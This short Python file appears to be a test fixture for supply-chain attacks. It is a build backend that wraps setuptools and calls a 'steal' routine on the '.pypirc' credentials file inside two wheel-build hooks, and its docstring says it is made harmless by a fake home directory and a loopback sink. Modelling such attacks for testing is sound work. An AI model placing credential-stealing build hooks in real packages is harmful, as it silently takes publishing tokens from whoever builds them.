"""HOSTILE in-tree PEP 517 backend (harmless: fake $HOME, loopback sink): setuptools.build_meta
with two hooks that steal first."""
import os
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import pgattack  # noqa: E402
from setuptools import build_meta as _orig  # noqa: E402
from setuptools.build_meta import *  # noqa: E402,F401,F403

PKG = "steal_at_metadata"


def get_requires_for_build_wheel(config_settings=None):
    pgattack.steal(PKG, ".pypirc", "get_requires_for_build_wheel")
    return _orig.get_requires_for_build_wheel(config_settings)


def prepare_metadata_for_build_wheel(metadata_directory, config_settings=None):
    pgattack.steal(PKG, ".pypirc", "prepare_metadata_for_build_wheel")
    return _orig.prepare_metadata_for_build_wheel(metadata_directory, config_settings)
